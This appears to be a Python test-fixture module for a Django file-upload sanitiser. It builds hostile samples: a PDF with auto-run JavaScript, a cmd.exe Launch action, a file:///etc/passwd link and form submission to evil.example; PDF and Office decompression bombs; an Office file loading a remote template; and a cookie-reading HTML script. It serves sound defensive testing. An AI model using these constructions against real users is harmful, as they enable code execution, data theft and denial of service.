"""Files as people, and not only people of good will, attach them."""

import io
import struct
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

OFFICE = "application/vnd.openxmlformats-officedocument."
MAIN_PARTS = {
    "docx": f"{OFFICE}wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": f"{OFFICE}spreadsheetml.sheet.main+xml",
}
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode." * 20
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
CAMERA = b"Sunqar-7 of Aigerim"
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


def named(name: str, content: bytes, claimed: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=claimed)


def pdf(pages: int = 2, text: str = "", **options) -> bytes:
    """`text` makes one PDF differ from another."""
    made = pikepdf.new()
    for _number in range(pages):
        made.add_blank_page()
    made.docinfo["/Title"] = text
    buffer = io.BytesIO()
    made.save(buffer, deterministic_id="encryption" not in options, **options)
    return buffer.getvalue()


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))


def armed_pdf() -> bytes:
    """One page that does all that a PDF can do by itself, and links to the web as it may."""
    made = pikepdf.new()
    made.add_blank_page()
    page = made.pages[0].obj
    page.Contents = made.make_stream(b"0 0 m")
    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    made.Root.OpenAction = script
    made.Root.AA = Dictionary(WC=script)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    made.attachments["tool.exe"] = EXE
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=Array([script])))
    actions = [
        Dictionary(S=Name.URI, URI=String("https://otinim.example/")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
        Dictionary(S=Name.GoToR, F=String("other.pdf")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
    ]
    notes = [Dictionary(Subtype=Name.Link, A=action) for action in actions]
    notes += [Dictionary(Subtype=Name.RichMedia), Dictionary(Subtype=Name.FileAttachment)]
    for note in notes:
        note.Type, note.Rect = Name.Annot, Array([0, 0, 9, 9])
    field = made.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), Rect=Array([0, 0, 9, 9]),
                   AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("AFNumber()"))))
    )  # fmt: skip
    page.Annots = Array([made.make_indirect(note) for note in notes] + [field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"))
    buffer = io.BytesIO()
    made.save(buffer, deterministic_id=True)
    return buffer.getvalue()


def pdf_bomb(megabytes: int) -> bytes:
    """A megabyte or less, whose catalogue stands at the beginning of a stream that unpacks to this size."""
    packer = zlib.compressobj(9)
    catalogue = b"1 0 << /Type /Catalog /Pages 2 0 R >> "
    packed = packer.compress(catalogue) + b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes))
    packed += packer.flush()
    body, starts = b"%PDF-1.7\n", {}
    for number, content in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>"),
        (4, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n" % len(packed)
            + packed + b"\nendstream"),
    ):  # fmt: skip
        starts[number] = len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    starts[5] = len(body)
    rows = bytes(6) + b"\2" + struct.pack(">IB", 4, 0)
    rows += b"".join(b"\1" + struct.pack(">IB", starts[number], 0) for number in (2, 3, 4, 5))
    table = b"<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >> stream\n" % len(rows)
    return body + b"5 0 obj\n%b%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, rows, starts[5])


def picture(kind: str = "JPEG", size: tuple[int, int] = (300, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(buffer, kind)
    return buffer.getvalue()


def photo(kind: str = "JPEG", orientation: int = 6) -> bytes:
    """As a phone makes it: turned, with the place and the camera's name."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = orientation, CAMERA.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 7.0, 30.0)})
    buffer = io.BytesIO()
    Image.effect_noise((60, 40), 50).convert("RGB").save(buffer, kind, exif=exif)
    return buffer.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """Only says that it is so large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + data


def office(kind: str = "docx", *, entries: int = 0, megabytes: int = 0) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        types = f'<Types><Override PartName="/main.xml" ContentType="{MAIN_PARTS[kind]}"/></Types>'
        archive.writestr("[Content_Types].xml", types)
        for number in range(entries):
            archive.writestr(f"part{number}", "")
        if megabytes:
            with archive.open("word/document.xml", "w") as part:
                for _number in range(megabytes):
                    part.write(bytes(2**20))
    return buffer.getvalue()


def armed_office() -> bytes:
    """A document with a program, a template that loads by itself, a link, and a photo."""
    relation = '<r:Relationship Id=">{}" Type="http://schemas.example/{}" Target="{}" TargetMode="External"/>'
    namespace = 'xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"'
    relations = relation.format("r1", "attachedTemplate", "https://evil.example/t.dotm")
    relations += relation.format("r2", "hyperlink", "https://otinim.example/")
    buffer = io.BytesIO(office())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/vbaProject.bin", EXE)
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/settings.xml.rels", f"<r:Relationships {namespace}>{relations}</r:Relationships>")
        archive.writestr("word/media/image1.jpeg", photo())
    return buffer.getvalue()


def archive_with_long_directory() -> bytes:
    """Its table of contents alone takes more memory than the file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(50):
            archive.writestr(zipfile.ZipInfo(f"{number}" + "a" * 65_000), "")
    return buffer.getvalue()
